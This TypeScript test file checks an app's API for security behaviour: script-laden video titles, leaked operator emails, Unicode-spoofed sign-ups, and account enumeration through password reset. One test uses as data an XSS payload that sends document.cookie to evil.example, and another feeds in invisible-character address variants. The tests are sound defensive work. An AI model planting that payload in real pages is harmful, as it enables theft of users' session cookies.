import { request } from "node:http";
import { expect, test } from "vitest";
import { ENDPOINTS } from "#shared/endpoints.ts";
import { call } from "../support/api.ts";
import { activationOf, freeKeyOf } from "../support/devices.ts";
import { newEmail, signUpPerson } from "../support/people.ts";
import { atPool } from "../support/pool.ts";
import { stack } from "../support/running.ts";
import { computer } from "../support/shop.ts";

/** Sends only these headers. Browsers and `fetch` would add more. */
function bare(path: string, body: string): Promise<number | undefined> {
  const headers = { "content-type": "application/json", "content-length": Buffer.byteLength(body) };
  return new Promise((resolve, reject) => {
    const sent = request(`${stack().apiUrl}${path}`, { method: "POST", headers }, (response) => {
      response.resume();
      response.on("end", () => resolve(response.statusCode));
    });
    sent.on("error", reject);
    sent.end(body);
  });
}

test("a computer without a User-Agent can report a video whose title contains a script", async () => {
  const person = await signUpPerson();
  const licenseKey = await freeKeyOf(person);
  const { body } = await call("licenses/activate", { licenseKey, ...computer("desk") });
  const title = `<script>fetch("https://evil.example/"+document.cookie)</script>`;
  const at = new Date().toISOString();
  const entries = [{ id: "script-in-a-title", type: "video_created", status: "success", at, title }];
  const report = { ...activationOf(licenseKey, "desk", body), sentAt: at, entries };
  expect(await bare(ENDPOINTS["activity/report"].path, JSON.stringify(report))).toBe(200);
  const told = await call("activity/getActivityLogs", {}, { token: person.accessToken });
  expect(told.body.logs).toEqual([expect.objectContaining({ title })]);
});

test("the public configuration contains no operator's email address", async () => {
  const answer = await fetch(`${stack().siteUrl}/config.json`);
  const text = await answer.text();
  expect(text).toContain("backOffice");
  expect(text).not.toContain("@");
});

test("an address that differs from another only by invisible characters cannot sign up", async () => {
  const { email } = await signUpPerson();
  const { clientId: ClientId } = stack().cognito;
  for (const Username of [`${email}\u200b`, `\u202e${email}`, email.replace("@", "\u2060@")]) {
    const answer = await atPool("SignUp", { ClientId, Username, Password: "Correct-Horse7" });
    expect(answer).toMatchObject({ status: 400, body: { __type: "InvalidParameterException" } });
  }
});

test("a request to reset a password does not reveal whether an address has an account", async () => {
  const { email } = await signUpPerson();
  const { clientId: ClientId } = stack().cognito;
  const ask = async (operation: string, body: object) => {
    const answer = await atPool(operation, { ClientId, ...body });
    const { CodeDeliveryDetails, ...said } = answer.body;
    return { status: answer.status, said, delivery: Object.keys(CodeDeliveryDetails ?? {}).sort() };
  };
  const wrong = { ConfirmationCode: "123456", Password: "Another-Horse8" };
  for (const [operation, more] of [
    ["ForgotPassword", {}],
    ["ConfirmForgotPassword", wrong],
  ] as const) {
    const [known, unknown] = [email, newEmail("nobody")].map((Username) =>
      ask(operation, { Username, ...more }),
    );
    expect(await known, operation).toEqual(await unknown);
  }
});
